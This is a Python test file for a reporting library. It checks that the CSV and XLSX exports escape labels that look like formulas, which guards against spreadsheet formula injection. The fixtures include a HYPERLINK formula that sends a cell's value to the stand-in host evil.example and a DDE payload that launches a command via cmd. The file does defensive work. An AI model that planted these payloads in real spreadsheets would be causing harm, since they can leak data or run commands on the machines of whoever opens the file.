"""Issue 12: the report files (CSV pack, one long CSV, XLSX workbook) write every label as
text, so a programme or area named like a formula cannot run in a spreadsheet."""

import csv
import datetime
import io
import zipfile

import pandas as pd
from openpyxl import load_workbook

from offramp.analysis.profile import Section, Table
from offramp.reports.rendering import ReportDocument, build_document, csv_pack, long_csv, xlsx_bytes

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
DDE = "-2+3+cmd|' /C calc'!A0"


def _document() -> ReportDocument:
    frame = pd.DataFrame({"Programme": [HYPERLINK, DDE, "Total"], "People": [7, "[c]", 12]})
    table = Table(id="programmes", title="People by programme", frame=frame, notes=("@note",))
    section = Section(id="work", title="What works", intro="", tables=(table,))
    return build_document(
        kind="profile",
        title="=1+1 Local Profile",
        area_name="Hartmoor",
        sections=[section],
        period_start=datetime.date(2026, 1, 1),
        period_end=datetime.date(2026, 3, 31),
        produced_at=datetime.datetime(2026, 4, 1, 9, 0, tzinfo=datetime.UTC),
    )


def test_the_csv_pack_writes_formulas_as_text() -> None:
    with zipfile.ZipFile(io.BytesIO(csv_pack(_document()))) as pack:
        rows = list(csv.reader(io.StringIO(pack.read("programmes.csv").decode())))
    assert [row[0] for row in rows[1:]] == [f"'{HYPERLINK}", f"'{DDE}", "Total"]
    assert rows[1][1] == "7"


def test_the_long_csv_writes_formulas_as_text() -> None:
    rows = list(csv.reader(io.StringIO(long_csv(_document()))))
    assert {row[2] for row in rows[1:]} == {f"'{HYPERLINK}", f"'{DDE}", "Total"}


def test_the_workbook_holds_no_formula_and_keeps_numbers() -> None:
    workbook = load_workbook(io.BytesIO(xlsx_bytes(_document())))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    sheet = workbook["programmes"]
    assert sheet["A3"].value == f"'{HYPERLINK}" and sheet["A4"].value == f"'{DDE}"
    assert sheet["B3"].value == 7
    assert workbook["About"]["A1"].value == "'=1+1 Local Profile"
    assert sheet["A6"].value == "'@note"
